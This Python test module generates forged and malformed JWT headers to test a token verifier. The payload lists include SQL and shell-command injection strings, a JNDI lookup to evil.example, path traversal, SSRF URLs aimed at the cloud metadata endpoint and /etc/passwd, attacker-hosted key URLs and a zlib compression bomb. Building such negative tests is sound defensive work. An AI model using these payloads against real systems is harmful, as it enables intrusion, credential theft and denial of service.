"""Tokens whose header leads elsewhere: to a key of the forger's, to a rule that nobody keeps, to another kind."""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator
from typing import Any

from tests.specs.hostile.genuine import Genuine, Mutant, forger, named
from tests.specs.system import ISSUER, b64, public

#: Names of keys that look things up, run things or match everything in a careless reader.
KIDS: tuple[object, ...] = (
    *("", " ", "*", "%", "../../../../dev/null", "..\\..\\dev\\null", "/dev/null", "file:///dev/null"),
    *("' OR '1'='1", "x' UNION SELECT 'c2VjcmV0", "1; DROP TABLE clients; --", "$(id)", "`id`", "|id"),
    *("{{7*7}}", "${jndi:ldap://evil.example/a}", "https://evil.example/jwks.json", "\u0000", "a\r\nb: c"),
    *("k" * 257, "k" * 4000, "\u202e", "\ud800", "null", "undefined", "0", "bank", "hospital"),
)
NO_NAMES: tuple[object, ...] = (None, 0, 1, -1, 1.5, True, False, [], ["kid"], {}, {"kid": "x"})
ELSEWHERE = (
    *("https://evil.example/jwks.json", "http://evil.example/jwks.json", "http://127.0.0.1:1/jwks.json"),
    *("http://169.254.169.254/latest/meta-data", "file:///etc/passwd", "data:application/json,{}"),
    *(
        f"{ISSUER}@evil.example/jwks.json",
        f"{ISSUER}/.well-known/jwks.json",
        f"{ISSUER}/../jwks",
        "",
        "//evil",
    ),
)
CRITICAL: tuple[object, ...] = (
    *(
        [],
        ["exp"],
        ["b64"],
        ["alg"],
        ["x"],
        ["typ", "typ"],
        "exp",
        "",
        None,
        0,
        True,
        {},
        {"exp": 1},
        [1],
        [[]],
    ),
)
INSIDE: tuple[object, ...] = ("JWT", "jwt", "application/jwt", "JSON", "application/json", "", None, 0, [])
TYPS: tuple[object, ...] = (
    *("at+jwt", "dpop+jwt", "oauth-authz-req+jwt", "client-authentication+jwt", "token-introspection+jwt"),
    *(
        "JWT",
        "jwt",
        "JOSE",
        "JOSE+JSON",
        "secevent+jwt",
        "logout+jwt",
        "joincard-receipt+jwt",
        "statement+jwt",
    ),
    *(
        "application/at+jwt",
        "AT+JWT",
        "at+jwt ",
        "dpop+JWT",
        " dpop+jwt",
        "dpop",
        "at",
        "*",
        "",
        None,
        0,
        True,
    ),
    *([], ["at+jwt"], ["dpop+jwt"], {}, {"typ": "JWT"}, "oauth-authz-req+jwt ", "Oauth-authz-req", "sd-jwt"),
)


def keys_of_the_forger(of: Genuine) -> Iterator[Mutant]:
    """The forger signs, and the header leads to the forger's key."""
    key, sign = forger(of)
    jwk = public(key)
    chain = ["MIIBszCCAVmgAwIBAgIUe30=", b64(json.dumps(jwk).encode())]
    kept = {"jwk": of.header["jwk"]} if "jwk" in of.header else {}  # the key that a proof must be signed with
    headers: tuple[dict[str, Any], ...] = (
        *({"kid": kid} for kid in (*KIDS, *NO_NAMES)),
        *({name: where} for name in ("jku", "x5u") for where in ELSEWHERE),
        *({name: where, "kid": "k1"} for name in ("jku", "x5u") for where in ELSEWHERE),
        *({"jwk": each} for each in (jwk, {**jwk, "kid": "x"}, json.dumps(jwk), [jwk], {"keys": [jwk]})),
        *({"x5c": each} for each in (chain, chain[0], [], [jwk])),
        *(
            {"x5t": "AAAA"},
            {"x5t#S256": "AAAA"},
            {"jwks": {"keys": [jwk]}},
            {"key": jwk},
            {"trust_chain": []},
        ),
    )
    return named("forger's key", ((each, of.with_header(sign, **{**each, **kept})) for each in headers))


def critical(of: Genuine) -> Iterator[Mutant]:
    """Rules that must be understood, rightly signed (RFC 7515 section 4.1.11, RFC 7797)."""

    def made() -> Iterator[tuple[object, str]]:
        for names in CRITICAL:
            yield {"crit": names}, of.with_header(crit=names, x=1)
        for flag in (False, True, None, "false", 0):
            yield {"b64": flag}, of.with_header(b64=flag)
            yield {"b64": flag, "crit": 1}, of.with_header(b64=flag, crit=["b64"])
        head = b64(json.dumps({**of.header, "b64": False, "crit": ["b64"]}).encode())
        text = f"{head}.{json.dumps(of.claims)}"
        yield "claims not encoded", f"{text}.{b64(of.signer(text.encode()))}"

    return named("critical", made())


def packed(of: Genuine) -> Iterator[Mutant]:
    """Claims that are compressed, encrypted by name, or hold another token; rightly signed."""
    raw = json.dumps(of.claims).encode()
    squeezed = zlib.compress(raw)
    bomb = zlib.compress(b" " * 10_000_000)

    def made() -> Iterator[tuple[object, str]]:
        for name, body in (("zlib", squeezed), ("deflate", squeezed[2:-4]), ("bomb", bomb)):
            yield name, of.signed(header={**of.header, "zip": "DEF"}, claims=body)
        for kind in INSIDE:
            yield {"cty": kind}, of.with_header(cty=kind)
            yield {"cty": kind, "inside": 1}, of.signed({**of.header, "cty": kind}, of.compact.encode())
        yield "a token as the claims", of.signed(claims=of.compact.encode())
        yield "a token as a text", of.signed(claims=json.dumps(of.compact).encode())

    return named("packed", made())


def other_types(right: tuple[str, ...]) -> list[object]:
    """Every ``typ`` but those of the kind itself, which are media types (RFC 7515 section 4.1.9)."""
    return [typ for typ in TYPS if not isinstance(typ, str) or media_type(typ) not in map(media_type, right)]


def media_type(typ: str) -> str:
    """A name as two that are equal have it."""
    return typ.lower().removeprefix("application/")


def wrong_type(of: Genuine, right: tuple[str, ...]) -> Iterator[Mutant]:
    """Another kind's name, rightly signed (RFC 8725 section 3.11)."""
    return named("typ", ((typ, of.with_header(typ=typ)) for typ in other_types(right)))


def unknown_kid(of: Genuine) -> Iterator[Mutant]:
    """The right key under a name that it does not have."""
    return named("kid", ((kid, of.with_header(kid=kid)) for kid in (*KIDS, *NO_NAMES)))


def no_text_as_kid(of: Genuine) -> Iterator[Mutant]:
    """A name that is no text (RFC 7515 section 4.1.4), where the name counts for nothing else."""
    return named("kid", ((kid, of.with_header(kid=kid)) for kid in NO_NAMES))


FAMILIES = (keys_of_the_forger, critical, packed)
